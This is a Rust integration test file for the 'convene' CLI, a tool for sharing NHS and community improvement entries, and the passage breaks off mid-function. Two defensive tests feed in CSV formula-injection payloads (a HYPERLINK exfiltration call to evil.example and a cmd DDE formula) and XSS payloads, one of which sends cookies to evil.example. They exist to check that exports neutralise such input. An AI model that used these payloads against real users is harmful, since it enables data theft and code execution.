//! The `convene` command end to end, as a new user would run it: each test
//! gets its own temporary home and runs the real binary.

mod support;

use predicates::prelude::*;
use serde_json::Value;
use support::Home;

#[test]
fn init_then_id_and_refusing_a_second_init() {
    let home = Home::new();
    home.convene(&[
        "init",
        "--org",
        "Gateshead Health NHS Foundation Trust",
        "--sector",
        "nhs-trust",
        "--place",
        "Gateshead",
    ])
    .assert()
    .success()
    .stdout(predicate::str::contains("node id:         12D3KooW"));
    let id = home.stdout(&["id"]);
    assert!(id.trim().starts_with("12D3KooW"), "{id}");
    let before = home.db_bytes();
    home.convene(&["init", "--org", "Other", "--sector", "council"])
        .assert()
        .failure()
        .stderr(
            predicate::str::contains("already holds a Convene node")
                .and(predicate::str::contains(id.trim())),
        );
    assert_eq!(home.db_bytes(), before, "a refused init changes nothing");
}

#[test]
fn sectors_accept_slugs_and_labels() {
    for sector in ["council", "vcse", "NHS trust", "Primary Care"] {
        let home = Home::new();
        home.convene(&["init", "--org", "Org", "--sector", sector])
            .assert()
            .success();
        let org = home.json_lines(&["list", "organisation", "--json"]);
        assert_eq!(org.len(), 1);
        let shown = home.json(&["show", org[0]["id"].as_str().unwrap(), "--json"]);
        assert!(
            !shown["sector"].as_str().unwrap().contains(' '),
            "stored as a slug: {shown}"
        );
    }
}

#[test]
fn publish_list_show_search_edit_retract() {
    let home = Home::initialised();
    let learning = home.stdout(&[
        "publish",
        "learning",
        "--title",
        "NHS 111 online and call answering capacity",
        "--summary",
        "Extra online capacity shortened waits.",
        "--body",
        "We added call handlers and online triage.",
        "--impact",
        "44 per cent reduction in call answering time",
        "--tag",
        "111",
        "--tag",
        "urgent care",
        "--priority",
        "Discharge and safe transfers of care",
        "--method",
        "model-for-improvement",
        "--type",
        "case study",
        "--outcome",
        "worked",
    ]);
    let learning = learning.trim().to_string();

    let project = home.stdout(&[
        "publish",
        "project",
        "--title",
        "Safe Transfer of Care collaborative",
        "--aim",
        "10 per cent reduction in average length of stay in six months",
        "--stage",
        "testing-and-implementing",
        "--priority",
        "discharge-and-safe-transfers-of-care",
        "--measure",
        "Average length of stay;type=outcome;unit=days;baseline=8.2;target=7.4",
        "--measure",
        "Readmissions;type=balancing;unit=per cent",
        "--data",
        "Average length of stay@2024-01-31=8.1",
        "--data",
        "Average length of stay@2024-02-29=7.9",
        "--data",
        "Readmissions@2024-01-31=11.5",
    ]);
    let project = project.trim().to_string();

    let contact = home.stdout(&[
        "publish",
        "contact",
        "--name",
        "Asha Patel",
        "--role",
        "Improvement lead",
        "--email",
        "asha@example.org",
        "--expertise",
        "data and measurement",
        "--consent",
    ]);
    let contact = contact.trim().to_string();

    // list --json: one object per line, slugs, stable fields.
    let rows = home.json_lines(&["list", "--json"]);
    assert_eq!(rows.len(), 4, "three entries and the organisation profile");
    for row in &rows {
        for field in [
            "id",
            "kind",
            "title",
            "owner",
            "owner_name",
            "visibility",
            "status",
            "created",
            "updated",
        ] {
            assert!(row.get(field).is_some(), "{field} missing in {row}");
        }
    }
    let projects = home.json_lines(&["list", "project", "--json"]);
    assert_eq!(projects.len(), 1);
    assert_eq!(projects[0]["id"], project.as_str());
    let tagged = home.json_lines(&["list", "--tag", "111", "--json"]);
    assert_eq!(tagged.len(), 1);
    assert_eq!(tagged[0]["id"], learning.as_str());
    let by_priority = home.json_lines(&[
        "list",
        "--priority",
        "DISCHARGE AND SAFE TRANSFERS OF CARE",
        "--json",
    ]);
    assert_eq!(by_priority.len(), 2);
    let by_org = home.json_lines(&[
        "list",
        "contact",
        "--org",
        "Gateshead Health NHS Foundation Trust",
        "--json",
    ]);
    assert_eq!(by_org.len(), 1);
    assert_eq!(by_org[0]["id"], contact.as_str());

    // Visibility by organisation name is stored by id.
    let own = home.json_lines(&["list", "organisation", "--json"])[0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    let private = home.stdout(&[
        "publish",
        "learning",
        "--title",
        "Internal",
        "--summary",
        "s",
        "--visibility",
        "gateshead health nhs foundation trust",
    ]);
    let private = home.json(&["show", private.trim(), "--json"]);
    assert_eq!(private["visibility"], own.as_str());
    home.convene(&["retract", private["id"].as_str().unwrap()])
        .assert()
        .success();

    // show --json gives slugs; the readable page gives labels.
    let shown = home.json(&["show", &project[..8], "--json"]);
    assert_eq!(
        shown["priorities"][0],
        "discharge-and-safe-transfers-of-care"
    );
    assert_eq!(shown["measures"][0]["data"].as_array().unwrap().len(), 2);
    assert_eq!(shown["measures"][1]["data"][0]["value"], 11.5);
    assert_eq!(shown["measures"][0]["target"], 7.4);
    let page = home.stdout(&["show", &project]);
    assert!(
        page.contains("Discharge and safe transfers of care"),
        "{page}"
    );
    assert!(page.contains("2024-02-29  7.9"), "{page}");

    // search: ranked, with a snippet.
    let hits = home.json_lines(&["search", "call", "answering", "--json"]);
    assert_eq!(hits[0]["id"], learning.as_str());
    assert!(hits[0]["snippet"].as_str().unwrap().contains('['));
    let page = home.stdout(&["search", "Asha"]);
    assert!(page.contains("Asha Patel"), "{page}");

    // edit, record, history.
    home.convene(&[
        "edit",
        &learning,
        "--set",
        "title=NHS 111: call answering",
        "--set",
        "tags=111,online",
    ])
    .assert()
    .success();
    home.convene(&[
        "record",
        &project,
        "--measure",
        "average length of stay",
        "--date",
        "2024-03-31",
        "--value",
        "7.6",
        "--note",
        "lounge opened",
    ])
    .assert()
    .success();
    let shown = home.json(&["show", &learning, "--json", "--history"]);
    assert_eq!(shown["title"], "NHS 111: call answering");
    assert_eq!(shown["tags"], serde_json::json!(["111", "online"]));
    let history = shown["history"].as_array().unwrap();
    assert_eq!(history.len(), 2);
    assert_eq!(history[0]["signer"], home.stdout(&["id"]).trim());
    assert_eq!(
        history[0]["signer_org_name"],
        "Gateshead Health NHS Foundation Trust"
    );
    let shown = home.json(&["show", &project, "--json"]);
    assert_eq!(shown["measures"][0]["data"].as_array().unwrap().len(), 3);

    // retract: gone from lists and search, kept with its history.
    home.convene(&["retract", &learning])
        .assert()
        .success()
        .stdout(predicate::str::contains("retracted"));
    assert_eq!(home.json_lines(&["list", "learning", "--json"]).len(), 0);
    assert_eq!(
        home.json_lines(&["list", "learning", "--all", "--json"])
            .len(),
        2,
        "both retracted entries are still there"
    );
    assert!(
        home.json_lines(&["search", "answering", "--json"])
            .is_empty()
    );
    let shown = home.json(&["show", &learning, "--json", "--history"]);
    assert_eq!(shown["status"], "retracted");
    assert_eq!(shown["history"].as_array().unwrap().len(), 3);
    home.convene(&["edit", &learning, "--set", "title=x"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("is retracted"));
}

#[test]
fn publish_and_edit_from_files_round_trip_show_json() {
    let home = Home::initialised();
    let file = home.write(
        "project.toml",
        r#"
title = "Ambulance handover delays"
summary = "Peer visits from areas with longer delays to areas with shorter ones."
stage = "Embedding and spreading"
methods = ["Peer review", "process-mapping"]

[[measures]]
name = "Minutes lost to handover delays"
measure_type = "outcome"
data = [{ date = "2023-01-31", value = 5400.0 }, { date = "2023-06-30", value = 1950.0, note = "standard model" }]

[[pdsa]]
change_idea = "Peer visits"
act = "adopt"
do = "Visited two trusts"
"#,
    );
    let id = home.stdout(&["publish", "project", "--from", file.to_str().unwrap()]);
    let id = id.trim();
    let shown = home.json(&["show", id, "--json"]);
    assert_eq!(
        shown["methods"],
        serde_json::json!(["peer-review", "process-mapping"])
    );
    assert_eq!(shown["pdsa"][0]["do"], "Visited two trusts");

    // What show --json prints is what --from reads.
    let mut edited = shown.clone();
    edited["aim"] = Value::String("64 per cent fewer minutes lost".into());
    let json_file = home.write("edit.json", &edited.to_string());
    home.convene(&["edit", id, "--from", json_file.to_str().unwrap()])
        .assert()
        .success();
    let again = home.json(&["show", id, "--json"]);
    assert_eq!(again["aim"], "64 per cent fewer minutes lost");
    assert_eq!(again["measures"], shown["measures"]);
    // Publishing the same JSON again makes a new entry with the same fields.
    let copy = home.stdout(&["publish", "project", "--from", json_file.to_str().unwrap()]);
    let copy = home.json(&["show", copy.trim(), "--json"]);
    assert_eq!(copy["measures"], shown["measures"]);
    assert_ne!(copy["id"], shown["id"]);
}

#[test]
fn bad_input_gets_one_clear_line_and_writes_nothing() {
    let home = Home::initialised();
    let id = home.stdout(&[
        "publish",
        "learning",
        "--title",
        "Community calls",
        "--summary",
        "Fewer falls admissions.",
    ]);
    let id = id.trim().to_string();
    // More entries until two ids share their first character, for the
    // ambiguous prefix below: ids are base58, so the 59th at the latest.
    let mut ids = vec![id.clone()];
    let (one, another) = loop {
        assert!(
            ids.len() <= 58,
            "{} ids, no first character shared",
            ids.len()
        );
        let title = format!("Other {}", ids.len());
        let next = home.stdout(&["publish", "learning", "--title", &title, "--summary", "s"]);
        let next = next.trim().to_string();
        if let Some(earlier) = ids.iter().find(|i| i[..1] == next[..1]) {
            break (earlier.clone(), next);
        }
        ids.push(next);
    };
    let before = home.db_bytes_after_checkpoint();

    let cases: Vec<(Vec<&str>, &str)> = vec![
        (
            vec!["show", "zzzzzz"],
            "no entry has an id starting with \"zzzzzz\"",
        ),
        (
            vec!["show", "not-an-id!"],
            "no entry has an id starting with",
        ),
        (
            vec!["publish", "learning", "--summary", "no title"],
            "title: is required",
        ),
        (
            vec![
                "publish",
                "learning",
                "--title",
                "t",
                "--summary",
                "s",
                "--priority",
                "dischage",
            ],
            "did you mean discharge-and-safe-transfers-of-care",
        ),
        (
            vec![
                "publish",
                "learning",
                "--title",
                "t",
                "--summary",
                "s",
                "--method",
                "lean six",
            ],
            "unknown method value",
        ),
        (vec!["publish", "contact", "--name", "Sam"], "add --consent"),
        (
            vec![
                "publish",
                "contact",
                "--name",
                "Sam",
                "--email",
                "sam-at-example",
                "--consent",
            ],
            "is not an email address",
        ),
        (
            vec![
                "publish",
                "project",
                "--title",
                "t",
                "--measure",
                "LOS",
                "--data",
                "LOS@31/01/2024=3",
            ],
            "is not a date (expected YYYY-MM-DD)",
        ),
        (
            vec![
                "publish",
                "project",
                "--title",
                "t",
                "--data",
                "LOS@2024-01-31=3",
            ],
            "no measure called \"LOS\"",
        ),
        (
            vec!["edit", &id, "--set", "colour=red"],
            "unknown field \"colour\" for a learning entry",
        ),
        (
            vec!["edit", &id, "--set", "outcome=amazing"],
            "unknown outcome value",
        ),
        (
            vec!["edit", &id, "--set", "status=retracted"],
            "use `convene retract`",
        ),
        (vec!["list", "widgets"], "unknown kind \"widgets\""),
        (
            vec![
                "publish",
                "learning",
                "--title",
                "t",
                "--summary",
                "s",
                "--visibility",
                "Nowhere Trust",
            ],
            "no organisation is called \"Nowhere Trust\"",
        ),
        (
            vec!["list", "--org", "Nobody"],
            "no organisation is called \"Nobody\"",
        ),
        (
            vec![
                "record",
                &id,
                "--measure",
                "x",
                "--date",
                "2024-01-01",
                "--value",
                "1",
            ],
            "has no measure called",
        ),
        (vec!["search", "()"], "has no words to search for"),
    ];
    for (args, expected) in cases {
        let out = home.convene(&args).assert().failure().get_output().clone();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert!(
            stderr.contains(expected),
            "{args:?}: expected {expected:?} in {stderr:?}"
        );
        assert_eq!(
            stderr.trim_end().lines().count(),
            1,
            "{args:?}: one line: {stderr:?}"
        );
        assert!(stderr.starts_with("error: "), "{stderr}");
        assert!(out.stdout.is_empty(), "{args:?}: nothing on stdout");
    }

    // An ambiguous prefix (the one two ids share) names no entry, and says
    // which ids it starts; each id's own longer prefix still names its
    // entry.
    let common: String = one
        .chars()
        .zip(another.chars())
        .take_while(|(a, b)| a == b)
        .map(|(a, _)| a)
        .collect();
    let out = home.convene(&["show", &common]).assert().failure();
    let stderr = String::from_utf8(out.get_output().stderr.clone()).unwrap();
    assert!(stderr.contains("is ambiguous"), "{common}: {stderr}");
    assert!(
        stderr.contains(&one) && stderr.contains(&another),
        "{common}: both {one} and {another} named: {stderr}"
    );
    for full in [&one, &another] {
        let prefix = &full[..common.len() + 4];
        let shown = home.json(&["show", prefix, "--json"]);
        assert_eq!(shown["id"], full.as_str(), "{prefix}");
    }

    // Malformed files.
    let bad_toml = home.write("bad.toml", "title = \"unterminated\nsummary = 3");
    home.convene(&["publish", "learning", "--from", bad_toml.to_str().unwrap()])
        .assert()
        .failure()
        .stderr(predicate::str::contains("is not valid TOML"));
    let bad_json = home.write("bad.json", "{\"title\": ");
    home.convene(&["publish", "learning", "--from", bad_json.to_str().unwrap()])
        .assert()
        .failure()
        .stderr(predicate::str::contains("is not valid JSON"));
    let wrong_type = home.write("wrong.json", "{\"title\": 3, \"summary\": \"s\"}");
    home.convene(&[
        "publish",
        "learning",
        "--from",
        wrong_type.to_str().unwrap(),
    ])
    .assert()
    .failure()
    .stderr(predicate::str::contains("invalid type"));

    assert_eq!(
        home.db_bytes_after_checkpoint(),
        before,
        "no bad input wrote anything"
    );
}

#[test]
fn uninitialised_corrupt_and_read_only_homes_are_refused() {
    let empty = Home::new();
    for args in [
        vec!["list"],
        vec!["id"],
        vec!["publish", "learning", "--title", "t", "--summary", "s"],
    ] {
        empty.convene(&args).assert().failure().stderr(
            predicate::str::contains("no Convene node in")
                .and(predicate::str::contains("convene init")),
        );
    }

    let home = Home::initialised();
    let db = home.path().join("convene.db");
    let mut perms = std::fs::metadata(&db).unwrap().permissions();
    perms.set_readonly(true);
    std::fs::set_permissions(&db, perms.clone()).unwrap();
    home.convene(&["publish", "learning", "--title", "t", "--summary", "s"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("is read-only"));
    #[allow(clippy::permissions_set_readonly_false)]
    perms.set_readonly(false);
    std::fs::set_permissions(&db, perms).unwrap();

    let corrupt = Home::initialised();
    for f in ["convene.db-wal", "convene.db-shm"] {
        let _ = std::fs::remove_file(corrupt.path().join(f));
    }
    std::fs::write(corrupt.path().join("convene.db"), vec![0x42; 8192]).unwrap();
    corrupt
        .convene(&["list"])
        .assert()
        .failure()
        .stderr(predicate::str::contains(
            "is corrupt or not a Convene database",
        ));
}

#[test]
fn data_survives_between_commands_and_the_env_home_works() {
    let home = Home::initialised();
    let id = home.stdout(&[
        "publish",
        "learning",
        "--title",
        "Family hubs while you wait",
        "--summary",
        "Support while waiting for CYP mental health services.",
    ]);
    let out = assert_cmd::Command::cargo_bin("convene")
        .unwrap()
        .env("CONVENE_HOME", home.path())
        .args(["show", id.trim(), "--json"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["title"], "Family hubs while you wait");
}

#[test]
fn bundles_carry_changes_both_ways_and_damaged_ones_are_refused() {
    let trust = Home::for_org("Gateshead Health NHS Foundation Trust", "nhs-trust");
    let vcse = Home::for_org("Felling Community Group", "vcse");
    let third = Home::for_org("Carrying Council", "council");
    for title in ["Peer visits", "Community calls", "Family hubs"] {
        trust.publish(title);
    }
    vcse.publish("What young people told us");
    let t_bundle = trust.path().join("trust.bundle");
    let v_bundle = vcse.path().join("vcse.bundle");
    let out = trust.stdout(&["export", "--out", t_bundle.to_str().unwrap()]);
    assert!(out.contains("4 changes"), "{out}");
    let out = vcse.stdout(&["import", t_bundle.to_str().unwrap()]);
    assert!(out.contains("4 new changes"), "{out}");
    vcse.stdout(&["export", "--out", v_bundle.to_str().unwrap()]);
    trust.stdout(&["import", v_bundle.to_str().unwrap()]);
    assert_eq!(trust.ids(), vcse.ids());
    assert_eq!(trust.ids().len(), 6);

    // Importing the same bundle twice changes nothing.
    let before = vcse.db_bytes_after_checkpoint();
    let out = vcse.stdout(&["import", t_bundle.to_str().unwrap()]);
    assert!(out.contains("0 new changes, 4 already here"), "{out}");
    assert_eq!(vcse.ids(), trust.ids());
    assert!(
        vcse.db_bytes_after_checkpoint() == before,
        "the second import wrote to the database"
    );

    // A flipped byte or a cut-off copy is refused, and nothing is applied.
    let bytes = std::fs::read(&t_bundle).unwrap();
    let mut flipped = bytes.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 0x01;
    let flipped_path = third.write("flipped.bundle", "");
    std::fs::write(&flipped_path, &flipped).unwrap();
    let cut_path = third.write("cut.bundle", "");
    std::fs::write(&cut_path, &bytes[..bytes.len() - 10]).unwrap();
    let ids_before = third.ids();
    for (path, message) in [(&flipped_path, "damaged"), (&cut_path, "truncated")] {
        third
            .convene(&["import", path.to_str().unwrap()])
            .assert()
            .failure()
            .stderr(predicate::str::contains(message));
        assert_eq!(third.ids(), ids_before, "nothing applied");
    }

    // Carried through a third member: it imports and re-exports.
    third.stdout(&["import", t_bundle.to_str().unwrap()]);
    let relayed = third.path().join("relayed.bundle");
    third.stdout(&["export", "--out", relayed.to_str().unwrap()]);
    let far = Home::for_org("Far Away Group", "vcse");
    far.stdout(&["import", relayed.to_str().unwrap()]);
    for id in trust
        .ids()
        .iter()
        .filter(|id| !vcse_only(&vcse, &trust, id))
    {
        assert!(far.ids().contains(id), "{id} reached the far group");
    }

    // --since an earlier bundle: only what is new.
    let fresh = trust.publish("Warm spaces");
    let delta = trust.path().join("delta.bundle");
    let out = trust.stdout(&[
        "export",
        "--out",
        delta.to_str().unwrap(),
        "--since",
        t_bundle.to_str().unwrap(),
    ]);
    // The new entry, and the group's two changes the trust imported after
    // the first bundle.
    assert!(out.contains("3 changes"), "{out}");
    vcse.stdout(&["import", delta.to_str().unwrap()]);
    assert!(vcse.ids().contains(&fresh));
    trust
        .convene(&["export", "--out", "x.bundle", "--since", "last tuesday"])
        .assert()
        .failure()
        .stderr(predicate::str::contains("neither a bundle file nor a date"));
}

/// Entries only the VCSE group had before the exchange are not in the
/// trust's first bundle.
fn vcse_only(vcse: &Home, trust: &Home, id: &str) -> bool {
    let shown = trust.json(&["show", id, "--json"]);
    let _ = vcse;
    shown["owner_name"] == "Felling Community Group"
}

#[test]
fn a_spreadsheet_is_checked_whole_then_imported_in_one_go() {
    let home = Home::initialised();
    // The example in the README imports as it is.
    let example = concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/learning.csv");
    let out = home.stdout(&["import-csv", "learning", example]);
    assert!(out.contains("Published 3 learning entries"), "{out}");

    let mut csv = String::from("Title,Summary,Priorities,Tags,Outcome\n");
    for i in 0..2000 {
        let (title, priority, outcome) = match i {
            17 => (
                String::new(),
                "discharge-and-safe-transfers-of-care",
                "worked",
            ),
            88 => (format!("Row {i}"), "dischage", "worked"),
            150 => (format!("Row {i}"), "collaborative-leadership", "brilliant"),
            _ => (format!("Row {i}"), "collaborative-leadership", "mixed"),
        };
        csv += &format!("{title},What row {i} taught us.,{priority},t{i}; shared,{outcome}\n");
    }
    let bad = home.write("bad.csv", &csv);
    let before = home.ids();
    let out = home
        .convene(&["import-csv", "learning", bad.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(err.contains("line 19, column title: is required"), "{err}");
    assert!(
        err.contains("line 90, column priorities: unknown priority value \"dischage\""),
        "{err}"
    );
    assert!(
        err.contains("line 152, column outcome: unknown outcome value \"brilliant\""),
        "{err}"
    );
    assert!(
        err.contains("3 rows have problems; nothing was imported"),
        "{err}"
    );
    assert_eq!(home.ids(), before, "nothing written");

    let fixed = csv
        .replace(",What row 17", "Row 17,What row 17")
        .replace("dischage", "collaborative-leadership")
        .replace("brilliant", "worked");
    let good = home.write("good.csv", &fixed);
    let out = home.stdout(&[
        "import-csv",
        "learning",
        good.to_str().unwrap(),
        "--dry-run",
    ]);
    assert!(out.contains("2000 rows are valid"), "{out}");
    assert_eq!(home.ids(), before);
    let out = home.stdout(&["import-csv", "learning", good.to_str().unwrap()]);
    assert!(out.contains("Published 2000"), "{out}");
    assert_eq!(home.json_lines(&["list", "learning", "--json"]).len(), 2003);
    let tagged = home.json_lines(&["list", "--tag", "t42", "--json"]);
    assert_eq!(tagged.len(), 1);

    // Exported as CSV, it opens as a table with one column per field.
    let exported = home.stdout(&["export-csv", "learning"]);
    let mut lines = exported.lines();
    let header = lines.next().unwrap();
    assert!(header.starts_with("id,kind,schema,owner"), "{header}");
    assert!(header.contains(",priorities,"), "{header}");
    assert_eq!(lines.count(), 2003);
    // And as Markdown pages, one per entry, with front matter.
    let pages = home.path().join("site");
    let out = home.stdout(&["export-md", "--out", pages.to_str().unwrap()]);
    assert!(out.contains("Wrote 2004 Markdown files"), "{out}");
    let page = std::fs::read_dir(&pages)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().contains("ambulance-handover-delays"))
        .expect("a page for the ambulance entry");
    let text = std::fs::read_to_string(page).unwrap();
    assert!(text.starts_with("---\n"), "{text}");
    assert!(text.contains("kind: \"learning\""), "{text}");
    assert!(text.contains("\n# Ambulance handover delays\n"), "{text}");
    home.convene(&["import-csv", "widgets", good.to_str().unwrap()])
        .assert()
        .failure()
        .stderr(predicate::str::contains("unknown kind"));
    let wrong = home.write("wrong.csv", "titel,summary\nx,y\n");
    home.convene(&["import-csv", "learning", wrong.to_str().unwrap()])
        .assert()
        .failure()
        .stderr(predicate::str::contains("unknown column \"titel\""));
}

/// A CSV file's rows as a spreadsheet reads them (quoted cells may hold
/// commas, quotes and line breaks).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// Issue 13, item 8: a cell a spreadsheet would run as a formula is written
/// with a leading apostrophe, and import-csv takes it off again, so a file
/// goes out inert and comes back as it was.
#[test]
fn export_csv_neutralises_formulas_and_import_gives_them_back() {
    let home = Home::initialised();
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1",
        "-2+3",
        "@SUM(A1:A9)",
        "'=already quoted",
    ];
    for (i, summary) in hostile.iter().enumerate() {
        home.stdout(&[
            "publish",
            "learning",
            "--title",
            &format!("Row {i}"),
            &format!("--summary={summary}"),
            "--tag",
            "=cmd|' /C calc'!A0",
            "--body",
            "\t=2+5",
        ]);
    }
    let csv = home.path().join("out.csv");
    home.stdout(&["export-csv", "learning", "--out", csv.to_str().unwrap()]);
    let rows = csv_rows(&std::fs::read_to_string(&csv).unwrap());
    let column = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let (summary, tags, body) = (column("summary"), column("tags"), column("body"));
    let mut summaries = Vec::new();
    for row in &rows[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        assert_eq!(&row[tags], "'=cmd|' /C calc'!A0");
        assert_eq!(&row[body], "'\t=2+5");
        summaries.push(row[summary].to_string());
    }
    summaries.sort();
    let mut expected: Vec<String> = hostile.iter().map(|s| format!("'{s}")).collect();
    expected.sort();
    assert_eq!(summaries, expected);

    // The exported file imports as it is (the node's own columns are
    // ignored), and what comes back is what was published.
    let other = Home::for_org("Carers Trust", "vcse");
    let out = other.stdout(&["import-csv", "learning", csv.to_str().unwrap()]);
    assert!(out.contains("Published 5 learning entries"), "{out}");
    let mut back: Vec<String> = other
        .json_lines(&["list", "learning", "--json"])
        .iter()
        .map(|row| {
            let shown = other.json(&["show", row["id"].as_str().unwrap(), "--json"]);
            assert_eq!(shown["tags"][0], "=cmd|' /C calc'!A0", "{shown}");
            assert_eq!(shown["body"], "\t=2+5", "{shown}");
            shown["summary"].as_str().unwrap().to_string()
        })
        .collect();
    back.sort();
    let mut published: Vec<String> = hostile.iter().map(|s| s.to_string()).collect();
    published.sort();
    assert_eq!(back, published);

    // A row of another kind is refused, not silently turned into learning.
    let text = std::fs::read_to_string(&csv).unwrap();
    let wrong = other.write("projects.csv", &text.replacen(",learning,", ",project,", 1));
    other
        .convene(&["import-csv", "learning", wrong.to_str().unwrap()])
        .assert()
        .failure()
        .stderr(predicate::str::contains(
            "column kind: this row is a project",
        ));
}

/// Issue 13, item 8: export-md writes what members typed as text, never as
/// HTML a website would run.
#[test]
fn export_md_escapes_html_and_links() {
    let home = Home::initialised();
    home.stdout(&[
        "publish",
        "learning",
        "--title",
        "Waits <script>alert('title')</script>",
        "--summary",
        "<img src=x onerror=alert(1)> and [click](javascript:alert(2))",
        "--body",
        "Line one.\n\n<script>document.location='http://evil.example/'+document.cookie</script>\n\nA & B",
    ]);
    let site = home.path().join("site");
    home.stdout(&["export-md", "--out", site.to_str().unwrap()]);
    let page = std::fs::read_dir(&site)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().contains("learning-"))
        .expect("a page for the entry");
    let text = std::fs::read_to_string(page).unwrap();
    assert!(!text.contains('<'), "raw HTML in the page: {text}");
    assert!(text.contains("&lt;script&gt;document.location="), "{text}");
    assert!(text.contains("\n# Waits &lt;script&gt;"), "{text}");
    assert!(
        text.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "{text}"
    );
    assert!(text.contains("\\[click\\](javascript:alert(2))"), "{text}");
    assert!(text.contains("A &amp; B"), "{text}");
    assert!(
        text.contains("title: \"Waits &lt;script&gt;alert('title')&lt;/script&gt;\""),
        "front matter: {text}"
    );
}

/// Issue 13, item 8: contacts agreed to be seen by the community, not
/// published on a website: export-md leaves them out unless asked, and
/// then writes only those whose consent covers publication.
#[test]
fn export_md_leaves_contacts_out_unless_asked_and_their_consent_covers_it() {
    let home = Home::initialised();
    home.stdout(&[
        "publish",
        "contact",
        "--name",
        "Ben Community",
        "--email",
        "ben@example.org",
        "--consent",
    ]);
    let everything = |dir: &std::path::Path| -> String {
        std::fs::read_dir(dir)
            .unwrap()
            .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
            .collect::<Vec<_>>()
            .join("\n")
    };
    // Ben agreed to be seen by the community: not to be on a website.
    let site = home.path().join("first-site");
    home.stdout(&["export-md", "--out", site.to_str().unwrap()]);
    let text = everything(&site);
    assert!(
        !text.contains("Ben") && !text.contains("ben@example.org"),
        "a contact published without --contacts: {text}"
    );

    let org_only = home.write(
        "cat.json",
        r#"{"name": "Cat Organisation", "channels": [{"channel": "email", "value": "cat@example.org"}],
            "consent": {"given_by": "Cat Organisation", "public": true}}"#,
    );
    home.stdout(&[
        "publish",
        "contact",
        "--from",
        org_only.to_str().unwrap(),
        "--visibility",
        "organisation",
    ]);
    let people = home.write(
        "people.csv",
        "name,email,phone,consent,consent_public\n\
         Asha Public,asha@example.org,,yes,yes\n\
         Dev Declined,dev@example.org,,yes,no\n",
    );
    home.stdout(&["import-csv", "contact", people.to_str().unwrap()]);
    // Asha agreed to her email on the website, not to her phone.
    let asha = home
        .json_lines(&["list", "contact", "--json"])
        .into_iter()
        .find(|r| r["title"] == "Asha Public")
        .unwrap();
    let asha = asha["id"].as_str().unwrap();
    home.stdout(&[
        "edit",
        asha,
        "--set",
        r#"channels=[{"channel": "email", "value": "asha@example.org"}, {"channel": "phone", "value": "0191 000 0000", "visibility": "organisation"}]"#,
    ]);

    let site = home.path().join("site");
    let out = home.stdout(&["export-md", "--out", site.to_str().unwrap()]);
    assert!(out.contains("--contacts"), "{out}");
    let text = everything(&site);
    for who in [
        "Ben",
        "Cat",
        "Asha",
        "Dev",
        "example.org",
        "consent",
        "given_by",
    ] {
        assert!(
            !text.contains(who),
            "{who} published without --contacts: {text}"
        );
    }

    let with = home.path().join("with-contacts");
    home.stdout(&["export-md", "--out", with.to_str().unwrap(), "--contacts"]);
    let text = everything(&with);
    assert!(text.contains("# Asha Public"), "{text}");
    assert!(text.contains("asha@example.org"), "{text}");
    for kept_private in [
        "0191 000 0000",
        "Ben",
        "ben@example.org",
        "Cat",
        "cat@example.org",
        "Dev",
        "dev@example.org",
        "given_by",
    ] {
        assert!(
            !text.contains(kept_private),
            "{kept_private} published: {text}"
        );
    }

    // Exported as CSV, contacts import back with their consent record and
    // each channel's own visibility.
    let csv = home.path().join("contacts.csv");
    home.stdout(&["export-csv", "contact", "--out", csv.to_str().unwrap()]);
    let other = Home::for_org("Carers Trust", "vcse");
    let out = other.stdout(&["import-csv", "contact", csv.to_str().unwrap()]);
    assert!(out.contains("Published 4 contact entries"), "{out}");
    let asha = other
        .json_lines(&["list", "contact", "--json"])
        .into_iter()
        .find(|r| r["title"] == "Asha Public")
        .unwrap();
    let asha = other.json(&["show", asha["id"].as_str().unwrap(), "--json"]);
    assert_eq!(asha["consent"]["public"], true, "{asha}");
    assert_eq!(asha["consent"]["given_by"], "Asha Public", "{asha}");
    assert_eq!(asha["channels"][1]["visibility"], "organisation", "{asha}");

    // Consent to publication is wider than the community, so it cannot go
    // with consent to be seen by one organisation only.
    let narrow = home.write(
        "narrow.csv",
        "name,consent,consent_public,visibility\nEd Narrow,yes,yes,organisation\n",
    );
    home.convene(&["import-csv", "contact", narrow.to_str().unwrap()])
        .assert()
        .failure()
        .stderr(predicate::str::contains("column consent: cannot be yes"));
}

/// Runs `convene` in `home` to its end, sampling its peak resident set
/// from `/proc/<pid>/status` every millisecond. `VmHWM` is a high-water
/// mark (it only grows), so any sample after the peak reads the peak; only
/// a peak in the last millisecond before exit could be missed. Returns
/// whether it succeeded, its stdout and stderr, and the peak in MiB.
fn run_measuring_peak(home: &Home, args: &[&str]) -> (bool, String, String, f64) {
    use std::time::{Duration, Instant};
    let out_path = home.path().join("measured.out");
    let err_path = home.path().join("measured.err");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_convene"))
        .env_remove("CONVENE_HOME")
        .env("NO_COLOR", "1")
        .arg("--home")
        .arg(home.path())
        .args(args)
